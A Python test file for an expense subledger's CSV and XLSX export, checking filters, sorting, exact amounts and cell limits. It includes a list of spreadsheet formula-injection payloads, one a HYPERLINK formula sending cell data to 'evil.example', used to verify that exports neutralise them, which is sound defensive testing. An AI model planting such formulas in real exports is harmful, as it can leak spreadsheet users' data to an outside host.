"""A subledger as a table for other programs: everything, exact, and never a formula."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path
from uuid import UUID

import openpyxl
import pytest
from desk_at_work import Browser, DeskAtWork
from ledger_tenant import PERIOD

FORMULAS = ['=HYPERLINK("http://evil.example?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1+1"]


def of_csv(browser: Browser, query: str) -> list[dict[str, str]]:
    answer = browser.get(f"/v1/subledgers/expenses/export.csv{query}")
    assert answer.status_code == 200, answer.text
    assert answer.headers["Content-Disposition"] == 'attachment; filename="expenses.csv"'
    return list(csv.DictReader(io.StringIO(answer.content.decode(), newline="")))


def of_xlsx(browser: Browser, query: str) -> list[dict[str, openpyxl.cell.Cell]]:
    answer = browser.get(f"/v1/subledgers/expenses/export.xlsx{query}")
    assert answer.status_code == 200, answer.text
    sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).worksheets[0]
    header, *lines = sheet.iter_rows()
    return [dict(zip((str(cell.value) for cell in header), line, strict=True)) for line in lines]


def test_an_export_is_what_the_filter_matches(desk: DeskAtWork, eve: Browser, entity: UUID) -> None:
    row, other = desk.tenant.new_row(entity, vendor="Café ☕", expense_date="2025-01-31"), desk.tenant.new_row(entity, vendor="B")
    doubt = desk.tenant.new_row(entity, status="NEEDS_ATTENTION", validation_errors='[{"code": "x"}]', amount_gross=None)
    of = f"?entity={desk.slug(entity)}"
    (digest,) = (each["digest"] for each in eve.rows([row]))
    for read in (
        of_csv(eve, f"{of}&sort=-vendor"),
        [{k: c.value for k, c in each.items()} for each in of_xlsx(eve, f"{of}&sort=-vendor")],
    ):
        assert [each["id"] for each in read] == [str(doubt), str(row), str(other)]
        line = read[1]
        assert (line["digest"], line["entity"], line["period"], line["status"]) == (digest, desk.slug(entity), PERIOD, "PENDING")
        assert (line["vendor"], line["source_ref"]) == ("Café ☕", "doc:1#L1")
        assert read[0]["findings"] == '[{"code": "x"}]'
    assert [each["id"] for each in of_csv(eve, f"{of}&status=NEEDS_ATTENTION")] == [str(doubt)]
    assert {each["id"] for each in of_csv(eve, f"{of}&group=mine")} == {str(doubt)}
    assert of_csv(eve, "?entity=nobody") == []
    assert of_xlsx(eve, "?entity=nobody") == []
    assert of_csv(eve, of)[1]["expense_date"] in {"2025-01-31", ""}
    assert eve.get(f"/v1/subledgers/expenses/export.csv{of}&sort=nothing").json()["error"] == "SORT_UNKNOWN"
    assert desk.browser().get(f"/v1/subledgers/expenses/export.xlsx{of}").status_code == 401


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_a_formula(desk: DeskAtWork, eve: Browser, entity: UUID, text: str) -> None:
    desk.tenant.new_row(entity, vendor=text, notes=f"a,{text}")
    of = f"?entity={desk.slug(entity)}"
    (line,) = of_csv(eve, of)
    assert line["vendor"] == f"'{text}"
    (cells,) = of_xlsx(eve, of)
    assert cells["vendor"].data_type == "s"
    assert cells["vendor"].quotePrefix
    assert cells["vendor"].value == text.replace("\r", "_x000D_")


@pytest.mark.parametrize(
    ("amount", "kind"),
    [("120.5", "n"), ("-7.01", "n"), ("999999999999.999", "n"), ("9999999999999.999", "s"), ("0.000000001", "n"),
     ("12345678901234567890123456789.123456789", "s"), ("100000000000000000", "s")],
)  # fmt: skip
def test_amounts_are_exact(desk: DeskAtWork, eve: Browser, entity: UUID, amount: str, kind: str) -> None:
    desk.tenant.new_row(entity, status="NEEDS_ATTENTION", amount_gross=amount, vat_amount=None)
    of = f"?entity={desk.slug(entity)}"
    (line,) = of_csv(eve, of)
    assert Decimal(line["amount_gross"]) == Decimal(amount)
    (cells,) = of_xlsx(eve, of)
    found = cells["amount_gross"]
    assert found.data_type == kind
    assert Decimal(repr(found.value) if isinstance(found.value, float) else str(found.value)) == Decimal(amount)


def test_an_export_that_fails_leaves_nothing(eve: Browser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    monkeypatch.setattr("ntro_dagster.desk.export.MOST_LINES", 0)
    answer = eve.get("/v1/subledgers/expenses/export.xlsx")
    assert (answer.status_code, answer.json()["error"]) == (422, "EXPORT_TOO_LARGE")
    assert list(tmp_path.iterdir()) == []
    monkeypatch.undo()
    assert eve.get("/v1/subledgers/expenses/export.xlsx").status_code == 200


def test_what_a_sheet_cannot_hold(desk: DeskAtWork, eve: Browser, entity: UUID) -> None:
    desk.tenant.new_row(entity, vendor="a\x01b_x0041_", notes="x" * 40_000, expense_date="1899-12-31")
    of = f"?entity={desk.slug(entity)}"
    (line,) = of_csv(eve, of)
    assert (line["vendor"], len(line["notes"]), line["expense_date"]) == ("a\x01b_x0041_", 40_000, "1899-12-31")
    (cells,) = of_xlsx(eve, of)
    assert cells["vendor"].value == "a_x0001_b_x005F_x0041_"
    assert len(cells["notes"].value) == 32_767
    assert cells["expense_date"].value == "1899-12-31"
